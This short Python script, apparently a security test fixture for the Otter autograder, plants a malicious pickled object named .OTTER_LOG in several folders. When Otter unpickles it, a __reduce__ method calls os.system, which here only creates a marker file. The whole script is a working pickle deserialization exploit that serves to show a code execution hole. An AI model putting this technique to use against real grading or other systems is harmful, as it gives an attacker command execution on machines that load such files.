"""Leave an `.OTTER_LOG` that runs a command when Otter unpickles it."""
import os, pickle


class Evil:
    def __reduce__(self):
        return (os.system, (f"touch {PLACES['home']}/attack-log",))


for folder in (".", "..", PLACES["cwd"], PLACES["submissions"]):
    try:
        with open(os.path.join(folder, ".OTTER_LOG"), "wb") as file:
            pickle.dump(Evil(), file)
    except OSError:
        pass
